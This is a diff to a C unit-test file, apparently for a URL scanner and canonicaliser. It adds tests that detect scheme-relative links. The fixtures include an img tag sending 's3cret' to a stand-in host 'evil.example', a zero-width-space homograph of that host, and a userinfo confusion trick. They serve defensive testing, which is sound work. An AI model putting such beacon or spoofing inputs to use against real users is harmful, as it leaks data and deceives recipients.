@@ -990,7 +990,6 @@ START_TEST(test_whole_misc)
 	whole_not("hello world.example");
 	whole_not("example.com:8080");
 	whole_not("example.com/path");
-	whole_not("//example.com/x");
 	whole_not("nosuch:thing");
 	/* a URL with white space inside is one place to a WHATWG parser,
 	 * two to a receiver that splits on spaces: no single identity */
@@ -1155,6 +1154,40 @@ START_TEST(test_scan_attacks)
 	    "P +15551234567", "P +15551234567");
 	span_is("hotel:+15551234567", "+15551234567");
 	SCAN_NONE("xtel:1 xslack:#general");
+}
+END_TEST
+
+/*
+ * A scheme-relative URL ("//host/x") is fetched with the page's or the
+ * mail client's scheme: it is read as https: (SECURITY.md, "Links in
+ * what a message says").
+ */
+START_TEST(test_scan_relative)
+{
+	SCAN("<img src=\"//Evil.Example/t.gif?d=s3cret\">",
+	    "U https://evil.example/t.gif?d=s3cret");
+	SCAN("![x](//evil.example/p.png) and url(//cdn.example:8080/a) "
+	    "src=//[::1]/x", "U https://evil.example/p.png",
+	    "U https://cdn.example:8080/a", "U https://[::1]/x");
+	SCAN("\t//ev\xe2\x80\x8bil.example/x",
+	    "U https://evil.example/x|https://xn--evil-w76a.example/x");
+	span_is("see (//evil.example/a).", "//evil.example/a");
+	span_is("'//evil.example?q=1'", "//evil.example?q=1");
+	/* a comment, a path, a single label, "///" and slashes inside a
+	 * word are none; "://" stays scan_colon's */
+	SCAN_NONE("// note: x.y, //TODO fix, a//b.example, ///etc/x.conf");
+	SCAN_NONE("x//evil.example //home/user/x.txt");
+	SCAN("https://a.example//b.example/", "U https://a.example//b.example/");
+	whole_is("//Evil.Example/t.gif", CANON_URL,
+	    "https://evil.example/t.gif", NULL);
+	whole_is(" //[::1]:8443 ", CANON_URL, "https://[::1]:8443/", NULL);
+	whole_not("//home/user/x.txt");
+	/* a mailbox to a mail server, a URL to a fetcher */
+	whole_not("//corp.example?@evil.example");
+	whole_is("//bob@evil.example/x", CANON_URL,
+	    "https://bob@evil.example/x", NULL);
+	whole_not("///evil.example/x");
+	whole_err("//evil.example:99999/", -BNC_ERR_BAD_FORMAT);
 }
 END_TEST
 
@@ -1847,6 +1880,7 @@ canon_suite(void)
 	tcase_add_test(tc, test_scan_prose);
 	tcase_add_test(tc, test_scan_mailto);
 	tcase_add_test(tc, test_scan_attacks);
+	tcase_add_test(tc, test_scan_relative);
 	tcase_add_test(tc, test_scan_normalised);
 	tcase_add_test(tc, test_scan_spans);
 	tcase_add_test(tc, test_scan_agrees_whole);
